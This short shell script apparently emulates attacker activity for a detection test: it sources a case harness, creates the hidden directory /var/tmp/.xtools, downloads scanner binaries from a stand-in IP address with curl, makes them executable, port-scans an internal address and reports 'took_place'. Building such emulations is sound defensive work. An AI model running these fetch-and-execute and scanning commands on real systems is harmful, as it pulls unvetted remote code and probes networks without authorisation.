#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.xtools && cd /var/tmp/.xtools
for t in masscan pnscan zgrab; do curl -fsS -o $t http://203.0.113.10/programs/scan && chmod +x $t; done
./pnscan ports 10.77.0.1 >open.txt || true
ls -la /var/tmp/.xtools
took_place
